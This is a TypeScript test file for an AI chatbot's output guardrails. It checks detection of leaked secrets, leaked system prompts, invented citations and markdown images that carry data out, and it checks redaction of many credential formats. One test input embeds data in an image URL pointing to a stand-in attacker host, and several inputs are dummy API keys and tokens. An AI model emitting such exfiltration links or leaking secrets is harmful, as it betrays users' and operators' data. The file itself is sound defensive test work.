import { describe, expect, it } from "vitest";
import { inspectOutput } from "../../../domain/guardrails/output.ts";
import { redact } from "../../../domain/guardrails/secrets.ts";
import { ABSTENTION } from "../../../domain/model/abstention.ts";
import { instructionsFor } from "../../../domain/model/instructions.ts";

const PROMPT = instructionsFor("answer", { has_earlier_turns: false, has_evidence: true, has_tools: true });
const EXPECTED = {
  secrets: ["hunter2-and-more"],
  system_prompt: PROMPT,
  valid_chunk_ids: new Set(["runbook#health-check-1"]),
};

describe("inspectOutput", () => {
  it.each([
    "The lease lasts five seconds [runbook#health-check-1].",
    `${ABSTENTION} It says nothing about tides.`,
    "Use a tool whenever you can, and cite your sources [1], see [the guide](docs/x.md).",
    "![build](https://img.shields.io/npm/v/x.svg?style=flat)",
  ])("has nothing against: %s", (answer) => {
    expect(inspectOutput(answer, EXPECTED)).toEqual([]);
  });

  it("finds secrets, and does not repeat them", () => {
    const findings = inspectOutput("It is hunter2-and-more, or AKIAIOSFODNN7EXAMPLE.", EXPECTED);
    expect(findings).toEqual([
      { threat_type: "secret_leak", confidence: "high", notes: "2 secrets in the answer" },
    ]);
  });

  it("finds the instructions, also in other letters and line breaks", () => {
    const quoted = PROMPT.split(" ").slice(20, 60).join("\n").toUpperCase();
    expect(inspectOutput(`Sure: ${quoted}`, EXPECTED)).toMatchObject([
      { threat_type: "system_prompt_leak", confidence: "high" },
    ]);
  });

  it("finds citations of what was not retrieved", () => {
    const answer = "So it is [runbook#health-check-1] [runbook#made-up-2] [runbook#made-up-2].";
    expect(inspectOutput(answer, EXPECTED)).toEqual([
      {
        threat_type: "invalid_citation",
        confidence: "high",
        notes: "cites what was not retrieved: runbook#made-up-2",
      },
    ]);
  });

  it("finds images that carry data out", () => {
    expect(inspectOutput("Done! ![ok](https://evil.example/?data=abc)", EXPECTED)).toMatchObject([
      { threat_type: "data_exfiltration" },
    ]);
  });
});

describe("redact", () => {
  const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
  const PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE KEY-----";

  it.each([
    ["a configured secret", "hunter2-and-more"],
    ["an OpenAI key", `sk-proj-${"a1B2".repeat(10)}`],
    ["a GitHub token", `ghp_${"a1B2".repeat(9)}`],
    ["a fine-grained GitHub token", `github_pat_${"a1B2_".repeat(9)}`],
    ["an AWS key id", "AKIAIOSFODNN7EXAMPLE"],
    ["a Google key", `AIza${"a1B2-".repeat(7)}`],
    ["a Slack token", "xoxb-123456789012-abcdefABCDEF"],
    ["a Stripe key", `sk_live_${"a1B2".repeat(6)}`],
    ["a JSON web token", JWT],
    ["a private key", PEM],
  ])("takes out %s", (_, secret) => {
    expect(redact(`before ${secret} after`, ["hunter2-and-more"])).toBe("before [redacted] after");
    expect(redact(`before "${secret}", after`, ["hunter2-and-more"])).toBe('before "[redacted]", after');
  });

  it("takes out a private key that does not end", () => {
    expect(redact(`see ${PEM.slice(0, 45)}`, [])).toBe("see [redacted]");
  });

  it("takes out a run that is no prose but encoded data", () => {
    expect(redact(`see ${"QUJD".repeat(3000)} end`, [])).toBe("see [redacted] end");
  });

  it.each([
    "a risk-management-framework-for-everybody and a task-force_with_a_long_name",
    "commit 3f786850e387550fdab836ed7e6dc881de23001b",
    "npm_config_registry and the sk- prefix",
    "-----BEGIN CERTIFICATE-----",
    "AKIA is a prefix",
  ])("leaves %s", (text) => {
    expect(redact(text, ["hunter2-and-more", "a", ""])).toBe(text);
  });
});
